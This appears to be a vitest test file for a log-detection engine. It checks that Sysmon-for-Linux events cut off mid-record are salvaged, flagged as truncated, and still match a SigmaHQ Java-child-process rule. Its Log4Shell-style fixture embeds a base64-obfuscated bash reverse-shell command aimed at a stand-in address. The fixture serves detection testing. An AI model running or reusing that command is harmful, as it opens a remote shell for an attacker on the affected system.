/**
 * Issue 12.3: an event cut before its end keeps the fields complete before the cut, is marked
 * `truncated` in its provenance, is announced by a located warning and counted apart from skips.
 * The Log4Shell-shaped case: a Sysmon-for-Linux syslog line cut inside ParentCommandLine, after
 * Image, CommandLine and ParentImage, must still fire "Suspicious Java Children Processes".
 */
import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { Ajv } from 'ajv';
import { describe, expect, it } from 'vitest';
import { PROVENANCE_KEY } from '../../../engine/event.js';
import { syslogReader } from '../../../engine/events/syslog.js';
import { parseElement } from '../../../engine/events/xml/parse.js';
import { xmlReader } from '../../../engine/events/xml/reader.js';
import { createEngine } from '../../../engine/pipeline/engine.js';
import { hasShared, repoRoot, sharedDir, sharedNotice } from '../../helpers/rules.js';
import { eventsOf, problemsOf, readAll, sourceOf } from '../helpers.js';

const data = (name: string, value: string) => `<Data Name="${name}">${value}</Data>`;
const JAVA_CHILD = '<Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>1</EventID><Version>5</Version>'
  + '<Level>4</Level><Task>1</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords><TimeCreated SystemTime="2026-03-01T12:00:05.000000000Z"/>'
  + '<EventRecordID>91</EventRecordID><Correlation/><Execution ProcessID="812" ThreadID="812"/><Channel>Linux-Sysmon/Operational</Channel>'
  + '<Computer>app01</Computer><Security UserId="0"/></System><EventData>'
  + data('RuleName', '-') + data('UtcTime', '2026-03-01 12:00:05.000') + data('ProcessGuid', '{7a1c3e52-f5ab-627b-082b-60e4b9550000}')
  + data('ProcessId', '4400') + data('Image', '/usr/bin/bash')
  + data('CommandLine', 'bash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTguNTEuMTAwLjcvNDQzIDA+JjE=}|{base64,-d}|{bash,-i}')
  + data('CurrentDirectory', '/opt/app') + data('User', 'app') + data('ParentProcessGuid', '{7a1c3e52-f5aa-627b-0827-60e4b9550000}')
  + data('ParentProcessId', '4312') + data('ParentImage', '/usr/lib/jvm/java-11-openjdk/bin/java')
  + '<Data Name="ParentCommandLine">/usr/lib/jvm/java-11-openjdk/bin/java -jar /opt/app/vulnerable-app.jar --spring.config.lo';
const LINE = `Mar  1 12:00:05 app01 sysmon: ${JAVA_CHILD}\n`;

describe('salvaging cut events (issue 12.3)', () => {
  it('keeps the fields complete before the cut, marks the event truncated, warns with its location', async () => {
    const items = await readAll(syslogReader, sourceOf('capture.log', LINE));
    expect(problemsOf(items)).toEqual(['warning salvaged-event 1:31']);
    const warning = items[0].kind === 'warning' ? items[0].diagnostic.message : '';
    expect(warning).toMatch(/^event 1 \(EventID 1\) is cut off after \d+ characters; \d+ complete field\(s\) kept, the last ParentImage; marked truncated$/);
    const [event] = eventsOf(items);
    expect(event).toMatchObject({ EventID: 1, Computer: 'app01', Image: '/usr/bin/bash', ParentImage: '/usr/lib/jvm/java-11-openjdk/bin/java', Security_UserID: '0' });
    expect(event.CommandLine).toContain('{base64,-d}');
    expect(event).not.toHaveProperty('ParentCommandLine');
    expect(event[PROVENANCE_KEY]).toEqual({ input: 'capture.log', line: 1, record: 1, truncated: true });
  });

  const cuts: Array<[string, string, string[] | 'skip']> = [
    ['inside a value: that field is dropped', '<Event><System><EventID>1</EventID></System><EventData><Data Name="A">a</Data><Data Name="B">b', ['EventID', 'A']],
    ['inside a start tag', '<Event><System><EventID>1</EventID></System><EventData><Data Name="A">a</Data><Data Na', ['EventID', 'A']],
    ['right after a closed field', '<Event><System><EventID>1</EventID></System><EventData><Data Name="A">a</Data>', ['EventID', 'A']],
    ['inside System, after EventID', '<Event><System><EventID>1</EventID><Level>4</Le', ['EventID']],
    ['inside an entity reference', '<Event><System><EventID>1</EventID></System><EventData><Data Name="A">a &amp; b</Data><Data Name="B">x &am', ['EventID', 'A']],
    ['before the EventID is complete', '<Event><System><Provider Name="x"/><EventID>1', 'skip'],
  ];
  it.each(cuts)('a cut %s', async (_name, xml, expected) => {
    const items = await readAll(syslogReader, sourceOf('cut.log', `Mar  1 12:00:05 h sysmon: ${xml}\n`));
    if (expected === 'skip') {
      expect(problemsOf(items)).toEqual(['skip truncated-event 1:27']);
      return;
    }
    expect(problemsOf(items)).toEqual(['warning salvaged-event 1:27']);
    expect(Object.keys(eventsOf(items)[0]).filter((k) => k !== PROVENANCE_KEY)).toEqual(expected);
  });

  it('an event that is malformed, not cut (ends with </Event>), is still rejected whole', () => {
    const parsed = parseElement('<Event><System><EventID>1</EventID></System><EventData><Data Name="A">bad & amp</Data></EventData></Event>', undefined, true);
    expect(parsed.ok).toBe(false);
  });

  it('an XML document cut at its end keeps its last event in part', async () => {
    const doc = `<Events>\n${JAVA_CHILD}`;
    const items = await readAll(xmlReader, sourceOf('cut.xml', doc));
    expect(problemsOf(items)).toEqual(['warning salvaged-event 2:1']);
    expect(eventsOf(items)[0]).toMatchObject({ ParentImage: '/usr/lib/jvm/java-11-openjdk/bin/java', '@source': { truncated: true } });
  });
});

sharedNotice('Suspicious Java Children Processes on a cut Log4Shell event');
describe.skipIf(!hasShared)('a cut Log4Shell event still fires SigmaHQ\'s rule (issue 12.3)', () => {
  it('"Suspicious Java Children Processes" hits the salvaged event; the hit says truncated and fits the schema', async () => {
    const rule = resolve(sharedDir, 'sigmahq/rules/rules/linux/process_creation/proc_creation_lnx_susp_java_children.yml');
    const engine = await createEngine([rule]);
    const [event] = eventsOf(await readAll(syslogReader, sourceOf('capture.log', LINE)));
    const hits = engine.detector.process(event);
    expect(hits.map((h) => h.rule.title)).toEqual(['Suspicious Java Children Processes']);
    const hit = JSON.parse(JSON.stringify(hits[0])) as Record<string, unknown>;
    expect(hit.source).toEqual({ input: 'capture.log', line: 1, record: 1, truncated: true });
    const schema = JSON.parse(readFileSync(resolve(repoRoot, 'engine/hit.schema.json'), 'utf8')) as object;
    const validate = new Ajv({ strict: false, logger: false }).compile(schema);
    expect(validate(hit), JSON.stringify(validate.errors)).toBe(true);
  });
});
